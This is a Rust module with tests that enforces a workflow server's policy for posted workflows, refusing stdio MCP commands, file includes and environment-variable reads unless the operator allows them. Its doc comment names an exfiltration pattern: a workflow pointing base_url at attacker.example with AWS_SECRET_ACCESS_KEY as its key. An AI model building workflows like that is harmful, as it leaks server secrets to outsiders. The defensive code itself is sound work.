//! What a workflow posted to the server may do beyond calling the network:
//! run commands (stdio MCP servers) and read files (sub-workflows by
//! `file:` or `workflow: <id>`). Neither, unless the operator allowed it.
//!
//! - Commands: a workflow that declares an MCP server with `command:`
//!   (`ir::McpServer::Stdio`), itself or in a sub-workflow embedded in one
//!   of its `type: workflow` nodes, at any depth, is refused by
//!   `POST /workflows` unless `jamjet dev --allow-commands` (any command)
//!   or `--allow-command CMD` (exact match on the `command:` text; the
//!   arguments, environment and working directory are the workflow's) lets
//!   it. The workflows of `--workflows DIR`, registered at start, are the
//!   operator's own files and are not checked.
//! - Files: posted YAML is compiled with [`crate::ir::Includes::Under`]
//!   the `--workflows` directory, or [`crate::ir::Includes::Nowhere`]
//!   without one ([`Policy::includes`]); the compiler enforces it.
//! - The server's environment: a workflow reads it where it names a
//!   variable (a model's `api_key_env`; `${VAR}` in an MCP server's
//!   command, arguments, environment, `cwd`, URL or headers, in a model's
//!   `base_url` or model id, in an http node's URL or headers, in an agent
//!   node's URL or headers) and sends its value where the workflow says. Posted, it may only send a
//!   model provider's default key to that provider's default URL (what
//!   `model: gpt-4o` means); any other variable needs
//!   `jamjet dev --allow-env NAME` (or `--allow-env '*'`). Otherwise a
//!   workflow with `base_url: https://attacker.example` and
//!   `api_key_env: AWS_SECRET_ACCESS_KEY` would mail the server's secrets.
//!
//! [`Policy::refused`] is pure: the IR in, every refusal out (commands and
//! environment variables alike, so one answer names all of them).

use std::collections::BTreeSet;
use std::path::PathBuf;

use crate::ir::{Includes, McpServer, NodeKind, ScorerKind, Workflow};
use crate::model::ModelConfig;

/// Which stdio MCP commands posted workflows may declare.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Commands {
    /// None (the default).
    #[default]
    None,
    /// Any (`--allow-commands`).
    Any,
    /// These, matched exactly against `command:` (`--allow-command`).
    Only(BTreeSet<String>),
}

impl Commands {
    fn allows(&self, command: &str) -> bool {
        match self {
            Commands::None => false,
            Commands::Any => true,
            Commands::Only(list) => list.contains(command),
        }
    }
}

/// Which environment variables posted workflows may read (and send).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Env {
    /// None but a provider's default key, sent to its default URL.
    #[default]
    Defaults,
    /// Any (`--allow-env '*'`).
    Any,
    /// These too (`--allow-env NAME`).
    Also(BTreeSet<String>),
}

impl Env {
    fn allows(&self, var: &str) -> bool {
        match self {
            Env::Defaults => false,
            Env::Any => true,
            Env::Also(list) => list.contains(var),
        }
    }
}

/// The operator's rules for posted workflows.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Policy {
    pub commands: Commands,
    pub env: Env,
    /// `--workflows DIR`, canonical: the only directory posted YAML may
    /// include sub-workflow files from.
    pub workflows_dir: Option<PathBuf>,
}

/// What a posted workflow would do that the operator has not allowed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reach {
    /// Declare a stdio MCP server: run `command`, with its relative paths
    /// resolved `from` a directory outside `--workflows` (an IR posted as
    /// JSON says where its paths are; only `--allow-commands` trusts that).
    Command { server: String, command: String, from: Option<String> },
    /// Read the environment variable `var` (and send it where the workflow says).
    Env { place: String, var: String },
}

/// One thing the policy does not allow, and where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused {
    /// The `type: workflow` nodes leading to the workflow that does it
    /// (empty: the posted workflow itself), outermost first.
    pub path: Vec<String>,
    /// The workflow that does it.
    pub workflow: String,
    pub reach: Reach,
}

impl Refused {
    /// The `jamjet dev` flag that would allow it.
    pub fn flag(&self) -> String {
        match &self.reach {
            Reach::Command { from: Some(_), .. } => "--allow-commands".to_string(),
            Reach::Command { command, .. } => format!("--allow-command {command}"),
            Reach::Env { var, .. } => format!("--allow-env {var}"),
        }
    }
}

impl std::fmt::Display for Refused {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.reach {
            Reach::Command { server, .. } => write!(f, "MCP server `{server}`")?,
            Reach::Env { place, .. } => f.write_str(place)?,
        }
        write!(f, " of workflow `{}`", self.workflow)?;
        if !self.path.is_empty() {
            let nodes: Vec<String> = self.path.iter().map(|n| format!("`{n}`")).collect();
            write!(f, " (the sub-workflow of node {})", nodes.join(" → "))?;
        }
        match &self.reach {
            Reach::Command { command, from: None, .. } => write!(f, " runs the command `{command}`"),
            Reach::Command { command, from: Some(dir), .. } => write!(
                f,
                " runs the command `{command}` with relative paths from `{dir}`, outside the --workflows directory"
            ),
            Reach::Env { var, .. } => write!(f, " reads the environment variable {var}"),
        }
    }
}

/// The variables `${VAR}` references in `text` name (none when malformed:
/// the compiler refuses those).
fn env_refs(text: &str) -> Vec<String> {
    crate::ir::env_refs(text).unwrap_or_default()
}

/// The variables a model configuration reads: `${VAR}` in its `base_url`
/// and model id, and its key variable unless it is its provider's default
/// key going to its default URL.
fn model_vars(config: &ModelConfig) -> Vec<String> {
    let mut vars: Vec<String> = env_refs(&config.base_url).into_iter().chain(env_refs(&config.model)).collect();
    vars.extend(model_key(config).map(str::to_string));
    vars
}

/// A model's key variable, unless it is its provider's default key going
/// to its provider's default URL (which any posted workflow may use).
fn model_key(config: &ModelConfig) -> Option<&str> {
    let var = config.api_key_env.as_deref()?;
    let defaults = var == config.provider.default_key_env() && config.base_url == config.provider.default_base_url();
    (!defaults).then_some(var)
}

impl Policy {
    /// What the data dir's owner may do over its Unix socket: anything a
    /// command of theirs may (commands, any environment variable of the
    /// holding process). Posted YAML still includes no files: the CLI
    /// posts the IR it compiled from its own files.
    pub fn trusted() -> Policy {
        Policy { commands: Commands::Any, env: Env::Any, workflows_dir: None }
    }

    /// Everything `wf` (or a sub-workflow in it, at any depth) would do
    /// that the policy does not allow, in declaration order, outer
    /// workflows first; empty when it may be registered.
    pub fn refused(&self, wf: &Workflow) -> Vec<Refused> {
        let mut out = Vec::new();
        // A stack, not recursion: nesting depth is the poster's to choose.
        let mut todo: Vec<(Vec<String>, &Workflow)> = vec![(Vec::new(), wf)];
        while let Some((path, wf)) = todo.pop() {
            let mut reach: Vec<Reach> = Vec::new();
            for (name, server) in &wf.mcp_servers {
                let texts: Vec<&String> = match server {
                    McpServer::Http { url, headers } => std::iter::once(url).chain(headers.values()).collect(),
                    McpServer::Stdio { command, args, env, cwd, dir } => {
                        // Relative paths from a directory the operator did not give.
                        let from = dir.as_ref().filter(|d| {
                            !self.workflows_dir.as_ref().is_some_and(|w| std::path::Path::new(d).starts_with(w))
                        });
                        let allowed = match from {
                            Some(_) => self.commands == Commands::Any,
                            None => self.commands.allows(command),
                        };
                        if !allowed {
                            let (server, command, from) = (name.clone(), command.clone(), from.cloned());
                            reach.push(Reach::Command { server, command, from });
                        }
                        std::iter::once(command).chain(args).chain(env.values()).chain(cwd).collect()
                    }
                };
                let place = format!("MCP server `{name}`");
                reach.extend(
                    texts.into_iter().flat_map(|t| env_refs(t)).map(|var| Reach::Env { place: place.clone(), var }),
                );
            }
            // Local agents: their model, consensus models and judge, and
            // the URLs of remote agents they call as tools.
            for (name, agent) in &wf.agents {
                let configs = std::iter::once(&agent.config)
                    .chain(agent.models.iter().map(|(_, c)| c))
                    .chain(agent.judge.iter().map(|(_, c)| c));
                for config in configs {
                    let place = format!("agent `{name}` (model `{}` at {})", config.model, config.base_url);
                    reach.extend(model_vars(config).into_iter().map(|var| Reach::Env { place: place.clone(), var }));
                }
                for tool in &agent.tools {
                    if let crate::ir::AgentTool::Remote { url } = tool {
                        let place = format!("agent `{name}` (tool {url})");
                        reach.extend(env_refs(url).into_iter().map(|var| Reach::Env { place: place.clone(), var }));
                    }
                }
            }
            for (id, node) in &wf.nodes {
                match &node.kind {
                    NodeKind::Model(m) => {
                        let place = format!("node `{id}` (model `{}` at {})", m.config.model, m.config.base_url);
                        reach.extend(
                            model_vars(&m.config).into_iter().map(|var| Reach::Env { place: place.clone(), var }),
                        );
                    }
                    NodeKind::Eval(e) => {
                        for s in &e.scorers {
                            if let ScorerKind::Rubric { config, .. } = &s.kind {
                                let place = format!("node `{id}` (judge `{}` at {})", config.model, config.base_url);
                                let vars = model_vars(config).into_iter();
                                reach.extend(vars.map(|var| Reach::Env { place: place.clone(), var }));
                            }
                        }
                    }
                    NodeKind::Http(h) => {
                        let place = format!("node `{id}` (http {} {})", h.method, h.url);
                        let vars = std::iter::once(&h.url).chain(h.headers.values()).flat_map(|t| env_refs(t));
                        reach.extend(vars.map(|var| Reach::Env { place: place.clone(), var }));
                    }
                    NodeKind::Agent(a) => {
                        let place = format!("node `{id}` (agent {})", a.agent);
                        let vars = std::iter::once(&a.agent).chain(a.headers.values()).flat_map(|h| env_refs(h));
                        reach.extend(vars.map(|var| Reach::Env { place: place.clone(), var }));
                    }
                    _ => {}
                }
            }
            let mut seen = Vec::new();
            reach.retain(|r| match r {
                Reach::Command { .. } => true,
                // Once per variable and place (`${TOKEN}` twice in one header).
                Reach::Env { var, .. } if seen.contains(r) || self.env.allows(var) => false,
                Reach::Env { .. } => {
                    seen.push(r.clone());
                    true
                }
            });
            out.extend(reach.into_iter().map(|reach| Refused { path: path.clone(), workflow: wf.id.clone(), reach }));
            // Sub-workflows after this one's own, in declaration order.
            for (id, node) in wf.nodes.iter().rev() {
                if let NodeKind::Workflow(sub) = &node.kind {
                    let mut inner = path.clone();
                    inner.push(id.clone());
                    todo.push((inner, &sub.workflow));
                }
            }
        }
        out
    }

    /// The files posted YAML may include.
    pub fn includes(&self) -> Includes {
        match &self.workflows_dir {
            Some(dir) => Includes::Under(dir.clone()),
            None => Includes::Nowhere,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const CHILD: &str = "
id: child
state_schema: { x: int }
mcp:
  servers:
    shell: { command: /bin/sh, args: [-c, 'true'] }
    web: { url: 'http://127.0.0.1:1/mcp' }
nodes:
  call: { type: tool, server: shell, tool: t, arguments: {}, output_key: x }
";

    fn parent() -> Workflow {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("child.yaml"), CHILD).unwrap();
        let parent = "
id: parent
state_schema: { x: int, out: dict }
mcp:
  servers:
    npx: { command: npx, args: [some-server] }
nodes:
  outer: { type: workflow, file: child.yaml, output_key: out }
";
        let path = dir.path().join("parent.yaml");
        std::fs::write(&path, parent).unwrap();
        crate::ir::compile_file(&path).unwrap()
    }

    #[test]
    fn stdio_servers_are_refused_at_any_depth_unless_allowed() {
        let wf = parent();
        let none = Policy::default().refused(&wf);
        let shown: Vec<String> = none.iter().map(ToString::to_string).collect();
        assert_eq!(
            shown,
            [
                "MCP server `npx` of workflow `parent` runs the command `npx`",
                "MCP server `shell` of workflow `child` (the sub-workflow of node `outer`) runs the command `/bin/sh`",
            ]
        );
        let any = Policy { commands: Commands::Any, ..Policy::default() };
        assert!(any.refused(&wf).is_empty());
        let some = Policy { commands: Commands::Only(["npx".to_string()].into()), ..Policy::default() };
        let left = some.refused(&wf);
        assert_eq!(left.len(), 1);
        assert!(matches!(&left[0].reach, Reach::Command { server, .. } if server == "shell"), "{left:?}");
        assert_eq!(left[0].path, ["outer".to_string()]);
        let sh = Policy { commands: Commands::Only(["sh".to_string()].into()), ..Policy::default() };
        assert_eq!(sh.refused(&wf).len(), 2, "an allowlist matches the command exactly");
    }

    #[test]
    fn one_walk_names_commands_and_environment_variables_together() {
        let wf = crate::ir::compile_str(
            "id: both\nstate_schema: { x: any }\nmcp:\n  servers:\n    sh: { command: /bin/sh, args: [\"${SECRET}\"] }\nnodes:\n  call: { type: tool, server: sh, tool: t, output_key: x }\n",
            "both.yaml",
        )
        .unwrap();
        let refused = Policy::default().refused(&wf);
        let flags: Vec<String> = refused.iter().map(Refused::flag).collect();
        assert_eq!(flags, ["--allow-command /bin/sh", "--allow-env SECRET"], "both at once: {refused:?}");
        assert_eq!(refused[1].to_string(), "MCP server `sh` of workflow `both` reads the environment variable SECRET");
        let env = Policy { env: Env::Also(["SECRET".to_string()].into()), ..Policy::default() };
        assert_eq!(env.refused(&wf).len(), 1);
        let all = Policy { commands: Commands::Any, env: Env::Any, ..Policy::default() };
        assert!(all.refused(&wf).is_empty());
    }

    /// Every place a posted workflow can read a variable through `${VAR}`
    /// is refused unless `--allow-env` names it; one refusal per variable
    /// and place.
    #[test]
    fn every_place_a_reference_can_be_read_is_refused_unless_allowed() {
        let wf = crate::ir::compile_str(
            r#"id: reach
state_schema: { x: any }
models:
  m: { provider: openai, model: "${MODEL_ID}", base_url: "${MODEL_URL:-http://127.0.0.1:1/v1}" }
mcp:
  servers:
    local: { command: "${TOOLS}/server", cwd: "${WORKDIR}" }
    remote: { url: "${MCP_URL}", headers: { X-Key: "${MCP_KEY}" } }
nodes:
  ask: { type: model, model: m, prompt: hi, output_key: x, next: hook }
  hook: { type: http, url: "${API_BASE}/x", headers: { Authorization: "Bearer ${TOKEN} ${TOKEN}" }, next: peer }
  peer: { type: agent, agent: "${AGENT_URL}", message: hi, headers: { X-Agent: "${AGENT_KEY}" } }
"#,
            "reach.yaml",
        )
        .unwrap_or_else(|d| panic!("{d}"));
        let policy = Policy { commands: Commands::Any, ..Policy::default() };
        let refused = policy.refused(&wf);
        let vars: Vec<&str> = refused
            .iter()
            .map(|r| match &r.reach {
                Reach::Env { var, .. } => var.as_str(),
                Reach::Command { .. } => unreachable!("commands are allowed"),
            })
            .collect();
        assert_eq!(
            vars,
            [
                "TOOLS",
                "WORKDIR",
                "MCP_URL",
                "MCP_KEY",
                "MODEL_URL",
                "MODEL_ID",
                "API_BASE",
                "TOKEN",
                "AGENT_URL",
                "AGENT_KEY"
            ],
            "{refused:?}"
        );
        let shown: Vec<String> = refused.iter().map(ToString::to_string).collect();
        assert!(
            shown.contains(
                &"node `hook` (http GET ${API_BASE}/x) of workflow `reach` reads the environment variable TOKEN"
                    .to_string()
            ),
            "{shown:?}"
        );
        assert!(
            shown
                .iter()
                .any(|s| s.starts_with("node `ask` (model `${MODEL_ID}` at ${MODEL_URL:-") && s.ends_with("MODEL_ID")),
            "{shown:?}"
        );
        // A model reading its URL from the environment sends its key there too: the key counts.
        let keyed = crate::ir::compile_str(
            "id: k\nstate_schema: { x: any }\nmodels:\n  m: { model: gpt-4o, base_url: \"${URL}\", api_key_env: OPENAI_API_KEY }\nnodes:\n  a: { type: model, model: m, prompt: hi, output_key: x }\n",
            "k.yaml",
        )
        .unwrap_or_else(|d| panic!("{d}"));
        let flags: Vec<String> = Policy::default().refused(&keyed).iter().map(Refused::flag).collect();
        assert_eq!(flags, ["--allow-env URL", "--allow-env OPENAI_API_KEY"]);
        // A local agent's model reads the environment the same way.
        let agent = crate::ir::compile_str(
            "id: g\nstate_schema: { x: any }\nmodels:\n  m: { model: gpt-4o, base_url: \"${URL}\", api_key_env: OPENAI_API_KEY }\nagents:\n  r: { model: m, instructions: hi }\nnodes:\n  a: { type: agent, agent: r, message: hi, output_key: x }\n",
            "g.yaml",
        )
        .unwrap_or_else(|d| panic!("{d}"));
        let refused = Policy::default().refused(&agent);
        let flags: Vec<String> = refused.iter().map(Refused::flag).collect();
        assert_eq!(flags, ["--allow-env URL", "--allow-env OPENAI_API_KEY"]);
        assert!(refused[0].to_string().starts_with("agent `r` (model `gpt-4o`"), "{}", refused[0]);
        let all = [
            "TOOLS",
            "WORKDIR",
            "MCP_URL",
            "MCP_KEY",
            "MODEL_URL",
            "MODEL_ID",
            "API_BASE",
            "TOKEN",
            "AGENT_URL",
            "AGENT_KEY",
        ];
        let allowed = Policy { env: Env::Also(all.iter().map(|v| v.to_string()).collect()), ..policy };
        assert!(allowed.refused(&wf).is_empty());
    }

    /// The workflow serving a local agent over A2A reads what the agent
    /// reads (its model, the MCP servers it carries): refused alike.
    #[test]
    fn a_served_local_agent_is_held_to_the_policy_too() {
        let wf = crate::ir::compile_str(
            "id: g\nstate_schema: { x: any }\nmodels:\n  m: { model: gpt-4o, base_url: \"${URL}\", api_key_env: OPENAI_API_KEY }\nmcp:\n  servers:\n    s: { url: \"${MCP_URL}\" }\nagents:\n  r: { model: m, instructions: hi, tools: [s.t] }\nnodes:\n  a: { type: agent, agent: r, message: hi, output_key: x }\n",
            "g.yaml",
        )
        .unwrap_or_else(|d| panic!("{d}"));
        let made = crate::ir::served_agent(&wf, "r").unwrap();
        let refused = Policy::default().refused(&made);
        let flags: Vec<String> = refused.iter().map(Refused::flag).collect();
        assert_eq!(flags, ["--allow-env MCP_URL", "--allow-env URL", "--allow-env OPENAI_API_KEY"]);
        assert!(refused.iter().all(|r| r.workflow == "g.r"), "{refused:?}");
        let made_flags: Vec<String> = Policy::default().refused(&wf).iter().map(Refused::flag).collect();
        assert_eq!(flags, made_flags, "no more and no less than the workflow it serves from");
        let allowed = Policy {
            env: Env::Also(["URL", "OPENAI_API_KEY", "MCP_URL"].map(String::from).into()),
            ..Policy::default()
        };
        assert!(allowed.refused(&made).is_empty());
    }

    /// A stdio server's `dir` (where its relative paths resolve from) must
    /// be under `--workflows`: an IR posted as JSON could name any.
    #[test]
    fn relative_paths_from_outside_the_workflows_dir_need_allow_commands() {
        let mut wf = crate::ir::compile_str(
            "id: rel\nstate_schema: { x: any }\nmcp:\n  servers:\n    s: { command: ./srv }\nnodes:\n  a: { type: tool, server: s, tool: t, output_key: x }\n",
            "rel.yaml",
        )
        .unwrap_or_else(|d| panic!("{d}"));
        let set_dir = |wf: &mut Workflow, to: &str| {
            if let Some(McpServer::Stdio { dir, .. }) = wf.mcp_servers.get_mut("s") {
                *dir = Some(to.to_string());
            }
        };
        let only = Policy {
            commands: Commands::Only(["./srv".to_string()].into()),
            workflows_dir: Some(PathBuf::from("/srv/wf")),
            ..Policy::default()
        };
        set_dir(&mut wf, "/srv/wf/sub");
        assert!(only.refused(&wf).is_empty(), "under --workflows, the command allowlist decides");
        set_dir(&mut wf, "/etc");
        let refused = only.refused(&wf);
        assert_eq!(refused.len(), 1);
        assert_eq!(refused[0].flag(), "--allow-commands");
        assert!(refused[0].to_string().contains("relative paths from `/etc`, outside the --workflows directory"));
        let any = Policy { commands: Commands::Any, ..only };
        assert!(any.refused(&wf).is_empty());
    }

    #[test]
    fn includes_follow_the_workflows_dir() {
        assert_eq!(Policy::default().includes(), Includes::Nowhere);
        let p = Policy { workflows_dir: Some(PathBuf::from("/srv/wf")), ..Policy::default() };
        assert_eq!(p.includes(), Includes::Under(PathBuf::from("/srv/wf")));
    }
}
